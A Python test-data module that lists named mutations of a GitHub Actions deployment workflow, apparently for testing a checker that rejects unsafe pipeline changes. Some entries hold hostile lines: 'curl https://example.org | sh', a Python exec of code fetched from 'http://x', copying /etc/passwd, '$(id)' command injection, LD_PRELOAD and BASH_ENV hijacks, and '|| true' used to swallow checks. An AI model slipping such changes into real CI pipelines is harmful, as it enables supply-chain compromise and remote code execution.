"""Changes of the deploying workflow that swallow a check, deploy something else, or let others start it."""

from __future__ import annotations

from tests.infra.checks.pipeline_attacks import CHECKOUT, DIGEST, Change, change_job, replace_text

DETOURS: dict[str, Change] = {
    "the run's token by another spelling": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ GitHub . Token }}\n")
    ),
    "the run's token among the secrets of the deployment": replace_text(
        "secrets.EDGE_SECRET", "secrets.GITHUB_TOKEN", 1
    ),
    "a deployment whatever failed": change_job(
        "deploy", replace_text("timeout-minutes: 60", "timeout-minutes: 60\n    if: always()")
    ),
    "a step of the deployment whatever failed": change_job(
        "deploy", replace_text("- name: Main stack", "- name: Main stack\n        if: always()")
    ),
    "tests that may fail": change_job(
        "verify", replace_text("timeout-minutes: 45", "timeout-minutes: 45\n    continue-on-error: true")
    ),
    "a step of the tests that may fail": change_job(
        "verify", replace_text("- run: make check", "- continue-on-error: true\n        run: make check")
    ),
    "tests that are left out": change_job(
        "verify", replace_text("timeout-minutes: 45", "timeout-minutes: 45\n    if: false")
    ),
    "tests that test nothing": change_job("verify", replace_text("make check lint-infra test", "true")),
    "tests whose failure is swallowed": change_job(
        "verify", replace_text("lint-infra test", "lint-infra test || true")
    ),
    "an audit that forgives": change_job("audit", replace_text("make audit RELEASE=1", "make audit")),
    "another shell": change_job(
        "deploy",
        replace_text("- name: Unpack", "- name: Unpack\n        shell: bash -c 'curl https://example.org | sh' {0}"),
    ),
    "another shell for all": replace_text("jobs:", "defaults: {run: {shell: 'sh {0}'}}\njobs:"),
    "another shell for the deployment": change_job(
        "deploy", replace_text("timeout-minutes: 60", "timeout-minutes: 60\n    defaults: {run: {shell: 'sh {0}'}}")
    ),
    "a check that a word swallows": change_job("deploy", replace_text(DIGEST, f"{DIGEST} ||true")),
    "a check that a colon swallows": change_job(
        "deploy", replace_text(DIGEST, DIGEST.replace("run: ", "run: |\n          ") + " || :")
    ),
    "a check in the background": change_job("deploy", replace_text(DIGEST, f"{DIGEST} &")),
    "a check of a missing file": change_job("deploy", replace_text(DIGEST, f"{DIGEST} --ignore-missing")),
    "a check of another file": change_job("deploy", replace_text('$DIGEST  motcua.tar.gz"', '$DIGEST  sbom.cdx.json"')),
    "a check before another artefact is taken": change_job(
        "deploy",
        replace_text(
            "- name: Unpack",
            "- uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n"
            "        with: {name: release}\n      - name: Unpack",
        ),
    ),
    "an artefact of another run": change_job(
        "deploy", replace_text("with: {name: release}", "with: {name: release, run-id: '1'}")
    ),
    "a program typed into the job with the role": change_job(
        "deploy",
        replace_text(
            "run: tar ", "run: python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'; tar "
        ),
    ),
    "a program of the artefact's data": change_job("deploy", replace_text("run: tar ", "run: bash package/x.sh; tar ")),
    "another module of the artefact": change_job("deploy", replace_text("infra.aws.deploy_web", "infra.local.run")),
    "a command inside a parameter": change_job(
        "deploy", replace_text('"SiteOrigin=$SITE_ORIGIN"', '"SiteOrigin=$(id)"')
    ),
    "a command behind the deployment": change_job(
        "deploy", replace_text("--package package", "--package package; id;")
    ),
    "libraries from elsewhere": change_job("deploy", replace_text("PYTHONPATH: lib", "PYTHONPATH: elsewhere")),
    "a file that the shell reads first": change_job("deploy", replace_text("env:\n", "env:\n      BASH_ENV: x\n", 1)),
    "a library before all others": change_job("deploy", replace_text("env:\n", "env:\n      LD_PRELOAD: x\n", 1)),
    "a key from a variable": change_job(
        "deploy", replace_text("env:\n", "env:\n      AWS_ACCESS_KEY_ID: ${{ vars.KEY }}\n", 1)
    ),
    "another registry for the build": change_job(
        "build", replace_text("env:\n", "env:\n      PIP_INDEX_URL: https://x.org\n")
    ),
    "another registry for the pages": change_job(
        "build", replace_text("env:\n", "env:\n      npm_config_registry: https://x.org\n")
    ),
    "a registry by an action": change_job(
        "build", replace_text('{node-version: "22"}', '{node-version: "22", registry-url: "https://x"}')
    ),
    "a cache by an action of its own": change_job(
        "build",
        replace_text("- run: make release", f"- uses: actions/cache@{'a' * 40} # v5.0.0\n      - run: make release"),
    ),
    "something more in the build": change_job(
        "build", replace_text("- id: release", "- run: cp /etc/passwd build/release/\n      - id: release")
    ),
    "a digest that somebody types": change_job(
        "build", replace_text("${{ steps.release.outputs.digest }}", "${{ inputs.stage }}")
    ),
    "a role that somebody types": change_job(
        "deploy", replace_text("${{ vars.DEPLOY_ROLE_ARN }}", "${{ inputs.province }}")
    ),
    "an attestation of every file": change_job(
        "attest", replace_text("subject-path: motcua.tar.gz", "subject-path: '*'")
    ),
    "an action in another spelling": replace_text(
        f"{CHECKOUT}\n        with: {{persist-credentials: false}}",
        CHECKOUT.replace("actions/checkout", "Actions/Checkout"),
        1,
    ),
    "an action of somebody in the build": change_job(
        "build", replace_text(CHECKOUT, f"someone/checkout@{'a' * 40} # v6.0.2")
    ),
    "a checkout of another repository": change_job(
        "build",
        replace_text("with: {persist-credentials: false}", "with: {persist-credentials: false, repository: someone/x}"),
    ),
    "a job beside with an identity": replace_text(
        "  audit:\n",
        "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {id-token: write}\n"
        "    steps: [{run: id}]\n  audit:\n",
    ),
    "a job beside without one": replace_text(
        "  audit:\n", "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps: [{run: id}]\n  audit:\n"
    ),
    "a matrix of machines": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    strategy: {matrix: {a: [1]}}")
    ),
    "a time limit of a week": replace_text("timeout-minutes: 60", "timeout-minutes: 10080"),
    "a time limit that is true": replace_text("timeout-minutes: 60", "timeout-minutes: true"),
    "started by a star": replace_text("on:\n", "on:\n  watch: {types: [started]}\n"),
    "started by a review": replace_text("on:\n", "on:\n  pull_request_review:\n"),
    "started by a page of the wiki": replace_text("on:\n", "on:\n  gollum:\n"),
    "started by a call from elsewhere": replace_text("on:\n", "on:\n  repository_dispatch:\n"),
    "started by every branch": replace_text('tags: ["v*"]', 'branches: ["**"]'),
    "started by every push": replace_text('  push:\n    tags: ["v*"]\n', "  push:\n"),
    "started twice over": replace_text("on:\n", '"on": [issue_comment]\non:\n'),
    "a workflow of others": replace_text(
        "  audit:\n", f"  other:\n    uses: someone/flows/.github/workflows/x.yml@{'a' * 40} # v1.0.0\n  audit:\n"
    ),
}
